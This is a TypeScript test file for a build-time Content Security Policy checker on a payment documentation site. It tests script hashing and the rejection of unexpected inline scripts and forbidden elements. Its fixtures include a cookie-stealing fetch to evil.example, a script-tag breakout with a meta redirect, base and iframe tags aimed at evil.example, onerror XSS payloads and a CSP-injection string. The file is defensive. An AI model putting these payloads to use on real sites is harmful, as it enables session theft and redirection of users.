import {after, test} from 'node:test';
import assert from 'node:assert/strict';
import {mkdirSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {
  checkPages,
  contentSecurityPolicy,
  cspInclude,
  inlineEventHandlers,
  inlineScripts,
  isExpectedInlineScript,
  scriptHash,
  type InlineScript,
} from './csp.ts';

const PAGE = [
  '<!doctype html><html><head>',
  '<script data-rh=true type=application/ld+json>{"@type":"BreadcrumbList"}</script>',
  '<script src=/paynow-guideline/assets/js/main.1234abcd.js defer></script>',
  '<script data-src=x>colour()</script>',
  '<script type="module">import("/x.js")</script>',
  "<script type='text/javascript'>legacy()</script>",
  '<script type=text/template><p>{{x}}</p></script>',
  '<script></script>',
  '</head><body><pre><code>&lt;button onclick="x()"&gt;</code></pre></body></html>',
].join('');

test('inlineScripts keeps only the inline scripts a browser runs', () => {
  assert.deepEqual(inlineScripts(PAGE), [
    'colour()',
    'import("/x.js")',
    'legacy()',
  ]);
});

// Expected values computed outside this code base:
//   printf '%s' "<text>" | openssl dgst -sha256 -binary | base64
test('scriptHash is the CSP sha256 source of the exact UTF-8 text (known vectors)', () => {
  assert.equal(
    scriptHash(''),
    "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='",
  );
  assert.equal(
    scriptHash('abc'),
    "'sha256-ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0='",
  );
  assert.equal(
    scriptHash('document.documentElement.dataset.mode="暗"'),
    "'sha256-irXXOpyezvv3Mskz2Xs87tWV+WjNPqOiEfVRX1wLzP0='",
  );
});

test('inlineEventHandlers finds handler attributes in tags, not in escaped text', () => {
  assert.deepEqual(inlineEventHandlers(PAGE), []);
  assert.deepEqual(
    inlineEventHandlers('<img src=x onerror="a()"><a href=# onClick=b()>'),
    ['onerror', 'onClick'],
  );
});

test('the default policy allows this origin only, scripts by hash', () => {
  const csp = contentSecurityPolicy({
    scriptHashes: ["'sha256-b'", "'sha256-a'", "'sha256-b'"],
  });
  assert.match(csp, /^default-src 'self'; /);
  assert.match(csp, /; script-src 'self' 'sha256-a' 'sha256-b'; /);
  assert.match(csp, /; connect-src 'self'; /);
  assert.match(csp, /; frame-ancestors 'none'$/);
  assert.doesNotMatch(csp, /unsafe-eval|https?:|\*/);
  assert.doesNotMatch(csp.split('; ')[1]!, /unsafe-inline/);
});

test('ALGOLIA_APP_ID adds that application’s search hosts to connect-src only', () => {
  const csp = contentSecurityPolicy({scriptHashes: [], algoliaAppId: 'ABC123'});
  const connect = csp.split('; ').find((d) => d.startsWith('connect-src'));
  assert.equal(
    connect,
    "connect-src 'self' https://abc123-dsn.algolia.net https://abc123-1.algolianet.com https://abc123-2.algolianet.com https://abc123-3.algolianet.com",
  );
  assert.equal(csp.match(/algolia/g)!.length, 4);
});

test('an ALGOLIA_APP_ID that is not alphanumeric is refused', () => {
  assert.throws(
    () =>
      contentSecurityPolicy({
        scriptHashes: [],
        algoliaAppId: 'x; script-src *',
      }),
    /alphanumeric/,
  );
});

const temps: string[] = [];
after(() => {
  for (const dir of temps) rmSync(dir, {recursive: true, force: true});
});

/** A build directory with these pages (path → HTML). */
function fixtureBuild(pages: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'paynow-postbuild-'));
  temps.push(dir);
  for (const [path, html] of Object.entries(pages)) {
    mkdirSync(join(dir, path, '..'), {recursive: true});
    writeFileSync(join(dir, path), html);
  }
  return dir;
}

const EXPECTED: InlineScript[] = [
  {source: 'test', reason: 'a known script', text: 'colour()'},
  {source: 'test', reason: 'a known call', text: /^boundary\(\d+\)$/},
];

/** The policy of the pages of `dir`, checked against `expected`. */
function postbuild(
  dir: string,
  {expectedScripts}: {expectedScripts: InlineScript[]},
) {
  const {hashes} = checkPages(dir, {
    expected: expectedScripts,
    registry: 'deploy/inline-scripts.ts',
  });
  return {
    csp: contentSecurityPolicy({scriptHashes: hashes}),
    inlineScripts: hashes.length,
  };
}

test('the page check allows the expected inline scripts by hash', () => {
  const dir = fixtureBuild({
    'index.html': '<script>colour()</script><script>boundary(1)</script>',
    'docs/a/index.html':
      '<script>colour()</script><script>boundary(22)</script>',
  });
  const {csp, inlineScripts: count} = postbuild(dir, {
    expectedScripts: EXPECTED,
  });
  assert.equal(count, 3);
  // The hashes of colour(), boundary(1) and boundary(22), from openssl.
  assert.match(
    csp,
    /script-src 'self' 'sha256-[^']+' 'sha256-[^']+' 'sha256-[^']+';/,
  );
  for (const hash of [
    'sha256-gDlYylS1q5SVwYx46jV+2iTGfzgrJf+8Ti+HDdFXYBQ=',
    'sha256-5YesUCUMiBxLVrAfZpKoUROvz+bdmlzmMZFfBjrWWpc=',
    'sha256-T8wHDshfeTweeZj6GUYpUriBrUWb/GfZt76LrWvEHkQ=',
  ]) {
    assert.ok(csp.includes(`'${hash}'`), hash);
  }
  assert.match(
    cspInclude(csp),
    /^map \$status \$paynow_csp \{\n {4}volatile;\n {4}416 "";\n {4}default "default-src 'self'; /m,
  );
});

test('the page check fails closed on any other inline script, naming the file', () => {
  const dir = fixtureBuild({
    'index.html': '<script>colour()</script>',
    'docs/planted/index.html':
      '<script>colour()</script><script>fetch("//evil.example/?"+document.cookie)</script>',
    'docs/ok/index.html': '<script>boundary(1);alert(1)</script>',
  });
  assert.throws(
    () => postbuild(dir, {expectedScripts: EXPECTED}),
    (error: Error) => {
      assert.match(
        error.message,
        /docs\/planted\/index\.html: unexpected inline script 'sha256-[^']+': fetch\("\/\/evil\.example/,
      );
      // A pattern matches the whole text, not a prefix.
      assert.match(
        error.message,
        /docs\/ok\/index\.html: unexpected inline script/,
      );
      assert.doesNotMatch(error.message, /^index\.html/m);
      assert.match(error.message, /deploy\/inline-scripts\.ts/);
      return true;
    },
  );
});

test('the registry refuses a pattern that is not anchored at both ends', () => {
  const dir = fixtureBuild({'index.html': '<script>x()</script>'});
  assert.throws(
    () =>
      postbuild(dir, {
        expectedScripts: [{source: 'test', reason: 'loose', text: /x\(\)/}],
      }),
    /must match the whole text/,
  );
});

/** A title written in backticks: `</script>` ends the structured data. */
const BREAKOUT =
  '`</script><meta http-equiv=refresh content=0;url=https://evil.example/>`';

test('the page check fails on structured data that is not JSON (text ended the script)', () => {
  // theme-classic's StructuredData as it was: JSON.stringify into the script.
  const dir = fixtureBuild({
    'index.html': `<script type=application/ld+json>${JSON.stringify({name: BREAKOUT})}</script>`,
  });
  assert.throws(
    () => postbuild(dir, {expectedScripts: EXPECTED}),
    (error: Error) => {
      assert.match(
        error.message,
        /index\.html: structured data \(application\/ld\+json\) is not JSON/,
      );
      assert.match(error.message, /index\.html: forbidden element <meta /);
      return true;
    },
  );
});

for (const element of [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<META HTTP-EQUIV=Content-Security-Policy content="x">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
]) {
  test(`the page check fails on ${element.slice(0, 30)}…`, () => {
    const dir = fixtureBuild({
      'docs/a/index.html': `<p>text</p>${element}`,
    });
    assert.throws(
      () => postbuild(dir, {expectedScripts: EXPECTED}),
      /docs\/a\/index\.html: forbidden element </,
    );
  });
}

test('the page check passes escaped structured data and those words as text', () => {
  const dir = fixtureBuild({
    'index.html': `<script type="application/ld+json">${JSON.stringify({name: BREAKOUT}).replace(/</g, '\\u003c')}</script><p>&lt;iframe&gt; and &lt;base href&gt; as text, <code>http-equiv</code></p>`,
  });
  assert.doesNotThrow(() => postbuild(dir, {expectedScripts: EXPECTED}));
});

test('isExpectedInlineScript: strings match exactly, patterns whole', () => {
  assert.ok(isExpectedInlineScript('colour()', EXPECTED));
  assert.ok(!isExpectedInlineScript('colour();x()', EXPECTED));
  assert.ok(isExpectedInlineScript('boundary(12)', EXPECTED));
});

/**
 * What the minifier writes: `<` and `>` raw inside attribute values, which
 * are text, not markup. A page about scripts and event handlers builds.
 */
const WORDS_IN_ATTRIBUTES = [
  '<!doctype html><html><head>',
  '<title>Why <script> tags are refused | PayNow</title>',
  '<meta name=description content="Never set onerror= or <script>alert(1)</script> in a field">',
  '<meta property=og:title content="The <script> element, onload=x()">',
  '</head><body><a href=# title="<img src=x onerror=alert(1)>">x</a>',
  '<textarea><script>not()</script> onclick=y()</textarea>',
  '<!-- <script>commented()</script> <a onclick=z()> -->',
  '</body></html>',
].join('');

test('inlineScripts and inlineEventHandlers read the parsed document: words in a title, an attribute, a textarea or a comment are text', () => {
  assert.deepEqual(inlineScripts(WORDS_IN_ATTRIBUTES), []);
  assert.deepEqual(inlineEventHandlers(WORDS_IN_ATTRIBUTES), []);
});

test('the page check passes a title mentioning <script> and a description mentioning onerror=', () => {
  const dir = fixtureBuild({'docs/words/index.html': WORDS_IN_ATTRIBUTES});
  assert.doesNotThrow(() => postbuild(dir, {expectedScripts: EXPECTED}));
});

test('real markup beside them still fails: a script element and a handler attribute', () => {
  const dir = fixtureBuild({
    'docs/words/index.html': WORDS_IN_ATTRIBUTES.replace(
      '</body>',
      '<img src=x onerror=alert(1)><script>alert(2)</script></body>',
    ),
  });
  assert.throws(
    () => postbuild(dir, {expectedScripts: EXPECTED}),
    (error: Error) => {
      assert.match(
        error.message,
        /docs\/words\/index\.html: unexpected inline script 'sha256-[^']+': alert\(2\)/,
      );
      assert.match(
        error.message,
        /docs\/words\/index\.html: inline event handler onerror/,
      );
      assert.doesNotMatch(error.message, /not\(\)|commented\(\)/);
      return true;
    },
  );
});

test('a script is hashed exactly as written, character references and all', () => {
  assert.deepEqual(
    inlineScripts('<script>a("&amp;")</script><SCRIPT>b()</SCRIPT >'),
    ['a("&amp;")', 'b()'],
  );
});
